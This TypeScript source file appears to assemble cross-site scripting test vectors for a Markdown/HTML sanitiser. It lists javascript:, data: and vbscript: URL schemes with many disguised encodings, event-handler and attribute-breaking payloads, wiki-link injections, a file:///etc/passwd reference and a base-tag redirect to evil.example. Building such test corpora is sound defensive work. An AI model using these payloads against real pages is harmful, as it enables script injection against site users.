import { CLOBBERING, FORMS_AND_PAGES, MUTATIONS, SCRIPTS, STYLES } from './html-vectors-markup'

/** Ways to make a page act through Markdown or HTML, by class. Each would act, somewhere, if the text came out as it is. */

const words = (text: string): string[] => text.trim().split(/\s+/)

const SCRIPT_SCHEMES = [
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'livescript:x',
  'blob:x',
  'file:///etc/passwd',
]

/** Spellings that browsers have taken, or take, for `javascript:`. */
const DISGUISED = [
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\u00adscript:alert(1)',
  'java\0script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#x0003A;alert(1)',
  'javascript&#58alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#9;script&#10;:alert(1)',
  '&#1;javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript://https://a.example/%0aalert(1)',
  'java<!-- -->script:alert(1)',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'data\t:text/html,x',
  'http\njavascript:alert(1)',
  '\\javascript:alert(1)',
  'javascript\\:alert(1)',
  'wiki-0:0',
]

const ADDRESSES = [...SCRIPT_SCHEMES, ...DISGUISED]

const HOLDERS = words(`
  href src action formaction xlink:href background poster data cite ping longdesc srcdoc srcset style lowsrc
  dynsrc codebase usemap manifest content to values from
`)

const ELEMENTS = words(`
  a img form input button iframe object embed link meta base video audio source track svg math body html table td
  p h1 details area map applet frame frameset portal layer isindex bgsound marquee select option keygen template
  slot dialog picture fencedframe x-custom
`)

const HANDLERS = words(`
  onclick onerror onload onmouseover onfocus ontoggle onbegin onpointerrawupdate onanimationstart ONCLICK oNeRrOr
  on\u00adload onbeforetoggle onscrollend onwebkittransitionend formaction style autofocus
`)

const WIKI = [
  '[["><img src=x onerror=alert(1)>]]',
  '[[x|<img src=x onerror=alert(1)>]]',
  '[[x" onclick="alert(1)]] ![[x\' onclick=\'alert(1)]]',
  '[[javascript:alert(1)]] [[x#"><script>alert(1)</script>]]',
  '[a [[b]] c](javascript:alert(1))',
  '[[a]](javascript:alert(1))',
  '![[a]](javascript:alert(1))',
  '<b title="[[x]]">[[y]]</b><script>[[z]]</script>',
  '<a href="[[x]]">y</a> <[[x]]> <a [[x]]>z</a>',
  '<wiki-0:0> [[x]] &lt;wiki-1:0&gt; %3Cwiki-1:0%3E <div title="<wiki-1:0>">',
]

const markdownLinks = (address: string): string[] => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `![x](<${address}> "t")`,
  `<${address}>`,
  `[x]\n\n[x]: ${address}`,
  `[x][y]\n\n[y]: <${address}> "title"`,
  `[![x](${address})](${address})`,
  `| [x](${address}) |\n|-|\n| ![x](${address}) |`,
  address,
]

const QUOTING = [
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  "[x](https://a.example '\"><img src=x onerror=alert(1)>')",
  '[x](https://a.example (&quot; onmouseover=alert(1)))',
  '![" onerror="alert(1)](https://a.example/x.png)',
  '![<img src=x onerror=alert(1)>](https://a.example/x.png)',
  '![`"><script>alert(1)</script>`](https://a.example/x.png "a\'b\\"c")',
  '[x]: https://a.example "\\"><script>alert(1)</script>"\n\n[x]',
  '<https://a.example/"onmouseover="alert(1)>',
  '<mailto:a@b.example?subject="><script>alert(1)</script>>',
  'https://a.example/"onmouseover="alert(1)',
  'www.a.example/<script>alert(1)</script>',
  'a"onclick=alert(1)@b.example',
  '[x](\\"onclick=alert(1)) [<img src=x onerror=alert(1)>](x)',
  '[x](https://a.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)',
  '**<img src=x onerror=alert(1)>** ~~<svg onload=alert(1)>~~ *<a href="*javascript:alert(1)">x</a>',
  '- [ ] <img src=x onerror=alert(1)>\n- [x" onclick=alert(1)] y\n1. <svg/onload=alert(1)>',
  '> <iframe src=javascript:alert(1)>\n> > <base href=//evil.example>',
  '| a | <img src=x onerror=alert(1)> |\n|:-|-:|\n| </td></tr></table><script>alert(1)</script> | b |',
  '<kbd><script>alert(1)</script> <img src=x onerror=alert(1)></kbd> <pre onclick=alert(1)><img src=x onerror=alert(1)></pre>',
]

/** The classes by name, each with its texts. */
export const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'script in any spelling': SCRIPTS,
  'addresses that act, in Markdown': ADDRESSES.flatMap(markdownLinks),
  'addresses that act, in HTML': ADDRESSES.flatMap((address) =>
    ['"', "'", ''].flatMap((quote) => [
      `<a href=${quote}${address}${quote}>x</a>`,
      `<img src=${quote}${address}${quote}>`,
    ]),
  ),
  'any attribute that holds an address': ELEMENTS.flatMap((element) =>
    HOLDERS.map((holder) => `<${element} ${holder}="javascript:alert(1)">x</${element}>`),
  ),
  'event handlers and the like': ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) => [
      `<${element} ${handler}=alert(1)>`,
      `<${element}/${handler}="alert(1)"/>x</${element}>`,
    ]),
  ),
  styles: STYLES,
  'mutations and foreign namespaces': MUTATIONS,
  'forms, frames and the page itself': FORMS_AND_PAGES,
  'ids, names and classes that clobber': CLOBBERING,
  'wiki links': WIKI,
  'quotes, titles and descriptions': QUOTING,
}
